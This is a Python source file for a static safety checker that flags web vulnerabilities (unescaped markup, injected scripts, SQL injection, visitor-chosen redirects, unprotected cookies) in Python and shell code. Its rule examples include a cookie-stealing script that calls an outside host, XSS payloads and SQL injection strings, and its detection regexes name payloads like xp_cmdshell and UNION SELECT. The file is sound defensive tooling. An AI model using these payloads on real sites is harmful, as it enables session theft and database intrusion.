"""Web pages and queries: what a stranger types becomes markup, a query or a template."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from safety.python_program import Call, Program
from safety.python_values import HOLE, Ref, as_text
from safety.rules.rule import Rule
from safety.shell_script import Script
from safety.verdicts import Finding

MARKUP = Rule(
    "web.unescaped",
    "ask",
    "nothing",
    "What a visitor sends is put into a page as it is, and runs in other visitors' browsers.",
    bad=(
        "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/')\ndef f():\n"
        "    n = request.args.get('n')\n    return f'<h1>{n}</h1>'",
        "n = input()\nopen('a.html', 'w').write('<h1>%s</h1>' % n)",
        "from flask import render_template_string, request\nrender_template_string('Hi ' + request.args['n'])",
    ),
    good=("title = 'x'\nhtml = f'<h1>{title}</h1>'", "from markupsafe import escape\nprint(escape('<b>'))"),
)
SCRIPT = Rule(
    "web.script",
    "ask",
    "nothing",
    "The markup carries a script of the kind that takes cookies or is used to break pages.",
    bad=(
        "page = '<img src=x onerror=alert(1)>'",
        "s = '<script>fetch(\"http://x/?\" + document.cookie)</script>'",
        "#!bash\necho '<script>alert(1)</script>' > a.html",
    ),
    good=("page = '<script src=\"plot.js\"></script>'",),
)
QUERY = Rule(
    "web.query",
    "ask",
    "nothing",
    "Text is pasted into a query, where it can end it and start another.",
    bad=(
        "import sqlite3\nc = sqlite3.connect(':memory:')\nn = input()\nc.execute(f\"SELECT * FROM t WHERE n = '{n}'\")",
        "#!bash\nread -r n\nsqlite3 a.db \"SELECT * FROM t WHERE n = '$n'\"",
        "q = \"SELECT * FROM u WHERE n = 'x' OR '1'='1'\"",
    ),
    good=(
        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('SELECT * FROM t WHERE n = ?', ('a',))",
        "t = 'a'\ndef f(c, t):\n    c.execute(f'SELECT * FROM {t}')",
    ),
)
SENT = Rule(
    "web.visitor-chooses",
    "ask",
    "nothing",
    "A visitor says which file is sent, or where the browser goes.",
    bad=("from flask import redirect, request\ndef go():\n    return redirect(request.args['url'])",),
    good=("from flask import redirect\ndef go():\n    return redirect('/home')",),
)
COOKIE = Rule(
    "web.open-cookie",
    "ask",
    "credentials",
    "The cookie can be read by scripts in the page, or goes over the line in the clear.",
    bad=(
        "from http import cookies\nc = cookies.SimpleCookie()\nc['s'] = 'x'\nc['s']['httponly'] = False",
        "def f(response):\n    response.set_cookie('s', 'x', secure=False)",
    ),
    good=("def f(response):\n    response.set_cookie('s', 'x', secure=True)",),
)
RULES = (MARKUP, SCRIPT, QUERY, SENT, COOKIE)

_TAG = re.compile(
    r"<\s*(?:h[1-6]|p|div|span|html|body|b|i|a|td|li|script|input|form|title|br|strong|em|pre|img|iframe)\b",
    re.IGNORECASE,
)
_BAD_SCRIPT = re.compile(
    r"<!ENTITY\s+\S+\s+SYSTEM|<!ENTITY\s+\w+\s+[\"'](?:&\w+;){2}|document\.cookie|\bon(?:error|load|mouseover|click|focus)\s*=\s*[\"']?\s*(?:alert|eval|fetch|window"
    r"|document|prompt|confirm)|<\s*script[^>]*>\s*(?:alert|prompt|confirm|eval)\s*\("
    r"|javascript:\s*(?:alert|eval|document|window|fetch)|^\s*<\s*script[^>]*>[^<]{1,300}<\s*/\s*script\s*>\s*$"
    r"|(?:document|window)\.location(?:\.href)?\s*=|<svg[^>]*\bonload\b|localStorage\.getItem\([^)]*\).{0,80}(?:fetch|http)",
    re.IGNORECASE,
)
_SENT = re.compile(
    r"^(?:flask\.request\.|bottle\.request\.|.*\brequest\.(?:args|form|values|GET|POST|query_params|cookies"
    r"|json)\b|cgi\.FieldStorage)"
)
_REQUESTED = re.compile(r"\b(?:request|req)\.(?:args|form|values|GET|POST|query_params|cookies|params|query)\b")
_INJECTED = re.compile(
    r"['\"]\s*or\s+['\"]?1['\"]?\s*=\s*['\"]?1|\bunion\s+(?:all\s+)?select\b.*\bfrom\b.*(?:password|users"
    r"|information_schema)|;\s*drop\s+table\b|'\s*;\s*--|\bor\s+1\s*=\s*1\b|=\s*'[^'\n]{0,60}'\s*(?:--|\#)"
    r"|['\"]\s*or\s*['\"](\w+)['\"]\s*=\s*['\"]\1|^\$where$|xp_cmdshell|\bsleep\(\d+\)\s*--",
    re.IGNORECASE,
)
_SQL = re.compile(
    r"\s*(?:select\s.+\sfrom|insert\s+into|update\s+\S+\s+set|delete\s+from)\s", re.IGNORECASE | re.DOTALL
)
_OPEN_QUOTE = re.compile(r"\b(?:select|insert|update|delete)\b.*['\"]%?\s*$", re.IGNORECASE | re.DOTALL)
_PLACE = re.compile(r"\b(?:select|insert|update|delete)\b.*'%?(?:%s|\{\w*\})", re.IGNORECASE | re.DOTALL)
_QUERY_HOLE = re.compile(
    rf"\b(?:select|insert|update|delete)\b.*?(?:'[%\w\s]*{HOLE}|=\s*{HOLE}|\(\s*{HOLE}|,\s*{HOLE}|like\s+\S*{HOLE})",
    re.IGNORECASE | re.DOTALL,
)


def python(program: Program) -> Iterator[Finding]:
    """Findings in a Python program."""
    yield from _pages(program)
    yield from _cookies(program)
    for call in program.calls:
        yield from _call(program, call)
    for node in program.nodes(ast.BinOp, ast.JoinedStr):
        if isinstance(node, (ast.BinOp, ast.JoinedStr)) and not isinstance(program.parent(node), ast.BinOp):
            texts = [value[:20_000] for value in program.values(node) if isinstance(value, str)]
            if any(_BAD_SCRIPT.search(text) for text in texts):
                yield SCRIPT.at(
                    node.lineno, "makes a script of the kind that attacks a page's visitors", node.col_offset + 1
                )
            elif any(_TAG.search(text) and HOLE in text for text in texts) and _from_visitor(program, node):
                yield MARKUP.at(node.lineno, "puts what somebody types into a page as it is", node.col_offset + 1)
            elif any(_SQL.match(text) for text in texts) and (
                _pasted(program, node) or any(map(_INJECTED.search, texts))
            ):
                yield QUERY.at(node.lineno, "pastes text into a query", node.col_offset + 1)
    for node in program.nodes(ast.Constant):
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and not _is_docstring(program, node):
            text = node.value[:20_000]
            if _BAD_SCRIPT.search(text):
                yield SCRIPT.at(
                    node.lineno, "holds a script of the kind that attacks a page's visitors", node.col_offset + 1
                )
            elif _INJECTED.search(text):
                yield QUERY.at(node.lineno, "holds a query built to break out of another", node.col_offset + 1)


def _from_visitor(program: Program, node: ast.AST) -> bool:
    """Whether what is put into a text may be what somebody types."""
    if re.search(r"escape|bleach|sanitiz|quote\(", program.code):
        return False
    return any(
        isinstance(value, Ref) and re.match(r"^(?:input\(\)|sys\.stdin\.read|cgi\.FieldStorage)", value.name)
        for part in ast.walk(node)
        if isinstance(part, (ast.Name, ast.Call))
        for value in program.values(part)
    )


def _cookies(program: Program) -> Iterator[Finding]:
    for node in program.nodes(ast.Assign):
        target = node.targets[0] if isinstance(node, ast.Assign) else None
        off = isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant) and node.value.value is False
        key = target.slice.value if isinstance(target, ast.Subscript) and isinstance(target.slice, ast.Constant) else ""
        if off and target is not None and str(key).lower() in _COOKIE_KEYS:
            yield COOKIE.at(target.lineno, "gives a cookie without its protection", target.col_offset + 1)


_COOKIE_KEYS = ("httponly", "secure", "session_cookie_httponly", "session_cookie_secure")


def _is_docstring(program: Program, node: ast.Constant) -> bool:
    return isinstance(program.parent(node), ast.Expr)


def _call(program: Program, call: Call) -> Iterator[Finding]:
    last = call.name.rsplit(".", 1)[-1]
    given = [value for values in call.args for value in values]
    if (
        call.name.endswith("render_template_string")
        or (last == "from_string" and "jinja2" in call.name)
        or call.name in ("jinja2.Template", "mako.template.Template")
    ):
        glued = bool(call.node.args) and _glued(call.node.args[0])
        if glued or any(HOLE in as_text(value) for value in call.argument(0, "source")):
            yield MARKUP.at(call.line, "makes a template out of what is sent", call.column)
    elif call.name in (
        "flask.redirect",
        "flask.send_file",
        "bottle.redirect",
        "bottle.static_file",
        "starlette.responses.FileResponse",
        "fastapi.responses.FileResponse",
        "fastapi.responses.RedirectResponse",
    ):
        if call.node.args and any(_is_sent(program, part) for part in ast.walk(call.node.args[0])):
            yield SENT.at(call.line, "lets a visitor choose the file or the address", call.column)
    elif last == "set_cookie" and any(
        value is False for key in ("httponly", "secure") for value in call.keywords.get(key, ())
    ):
        yield COOKIE.at(call.line, "gives a cookie without its protection", call.column)
    elif (
        last in ("HttpResponse", "HTMLResponse")
        and call.node.args
        and _REQUESTED.search(ast.unparse(call.node.args[0]))
    ):
        yield MARKUP.at(call.line, "puts what a visitor sends into a page as it is", call.column)
    elif call.name.endswith(("markupsafe.Markup", "flask.Markup", "mark_safe")) and any(
        HOLE in as_text(value) for value in given[:1]
    ):
        yield MARKUP.at(call.line, "declares text safe that is known only at run time", call.column)
    elif last in ("execute", "executescript", "executemany", "raw") and given:
        known = [value for value in call.argument(0, "sql", "query") if isinstance(value, str)]
        if any(_QUERY_HOLE.search(value[:4000]) or _INJECTED.search(value[:4000]) for value in known) or (
            call.node.args and _pasted(program, call.node.args[0])
        ):
            yield QUERY.at(call.line, "pastes text into a query", call.column)


def _is_sent(program: Program, node: ast.AST) -> bool:
    values = program.values(node) if isinstance(node, (ast.Name, ast.Attribute, ast.Subscript, ast.Call)) else ()
    return any(isinstance(value, Ref) and _SENT.match(value.name) for value in values)


def _glued(expr: ast.expr) -> bool:
    """Whether a text is put together from a known part and something held in a name."""
    if isinstance(expr, ast.BinOp):
        return any(isinstance(node, (ast.Name, ast.Call)) for node in ast.walk(expr))
    return isinstance(expr, ast.JoinedStr) and any(isinstance(part, ast.FormattedValue) for part in expr.values)


def _pasted(program: Program, expr: ast.expr) -> bool:
    """Whether a query is formatted with something between quotes."""
    found = program.names.lookup(expr.id, program.function(expr)) if isinstance(expr, ast.Name) else None
    for part in [expr, *(bind.expr for bind in (found[1] if found else ())[:6] if bind.expr is not None)]:
        if isinstance(part, ast.BinOp) and isinstance(part.op, ast.Mod) and isinstance(part.left, ast.Constant):
            if _PLACE.search(str(part.left.value)) and isinstance(part.right, (ast.Name, ast.Tuple, ast.Call)):
                return True
        elif (
            isinstance(part, ast.Call)
            and isinstance(part.func, ast.Attribute)
            and part.func.attr == "format"
            and isinstance(part.func.value, ast.Constant)
        ):
            if _PLACE.search(str(part.func.value.value)):
                return True
        elif isinstance(part, ast.BinOp) and isinstance(part.op, ast.Add):
            pieces = [
                node.value for node in ast.walk(part) if isinstance(node, ast.Constant) and isinstance(node.value, str)
            ]
            names = any(isinstance(node, (ast.Name, ast.Subscript)) for node in ast.walk(part))
            if names and any(_OPEN_QUOTE.search(piece) for piece in pieces):
                return True
        elif isinstance(part, ast.JoinedStr):
            for before, hole in zip(part.values, part.values[1:], strict=False):
                if (
                    isinstance(before, ast.Constant)
                    and str(before.value).rstrip("%").endswith("'")
                    and isinstance(hole, ast.FormattedValue)
                ):
                    return True
    return False


def _pages(program: Program) -> Iterator[Finding]:
    for node in program.nodes(ast.Return, ast.Call):
        if isinstance(node, ast.Return) and node.value is not None:
            function = program.function(node)
            if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)) and _is_route(function):
                yield from _page(program, node.value, node.lineno, function)
        elif isinstance(node, ast.Call) and node.args and _answers(node):
            function = program.function(node)
            if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)) and (
                _is_route(function) or function.name in ("do_GET", "do_POST", "get", "post")
            ):
                yield from _page(program, node.args[0], node.lineno, function)


def _answers(call: ast.Call) -> bool:
    """Whether a call may hand its argument to a visitor."""
    name = getattr(call.func, "attr", getattr(call.func, "id", ""))
    return name in ("write", "make_response", "Response", "HTMLResponse", "HttpResponse", "send", "Markup")


def _is_route(function: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
    for decorator in function.decorator_list:
        target = decorator.func if isinstance(decorator, ast.Call) else decorator
        if isinstance(target, ast.Attribute) and target.attr in (
            "route",
            "get",
            "post",
            "put",
            "delete",
            "api_route",
            "errorhandler",
        ):
            return True
    return False


def _page(
    program: Program, expr: ast.expr, line: int, function: ast.FunctionDef | ast.AsyncFunctionDef
) -> Iterator[Finding]:
    for value in program.values(expr):
        own = (
            {argument.arg for argument in (*function.args.args, *function.args.kwonlyargs)}
            if _is_route(function)
            else set()
        )
        given = any(isinstance(part, ast.Name) and part.id in own for part in ast.walk(expr))
        sent = (isinstance(value, Ref) and _SENT.match(value.name)) or (given and _TAG.search(as_text(value)))
        text = as_text(value)
        if (sent or (HOLE in text and _TAG.search(text))) and not _escapes(function):
            yield MARKUP.at(line, "puts what a visitor sends into a page as it is", expr.col_offset + 1)
            return


def _escapes(function: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
    names = (
        getattr(node.func, "attr", getattr(node.func, "id", ""))
        for node in ast.walk(function)
        if isinstance(node, ast.Call)
    )
    return any(name in ("escape", "render_template", "jsonify", "quote", "clean") for name in names)


_CLIENTS = ("sqlite3", "mysql", "mariadb", "psql", "duckdb", "sqlcmd")


def shell(script: Script) -> Iterator[Finding]:
    """Findings in a shell script."""
    for command in script.commands:
        text = " ".join((*command.args, command.body or ""))[:20_000]
        if command.name in _CLIENTS and _QUERY_HOLE.search(text[:4000]):
            yield QUERY.at(command.line, "pastes text into a query", command.column)
        elif _BAD_SCRIPT.search(text):
            yield SCRIPT.at(command.line, "holds a script of the kind that attacks a page's visitors", command.column)
        elif _INJECTED.search(text):
            yield QUERY.at(command.line, "holds a query built to break out of another", command.column)
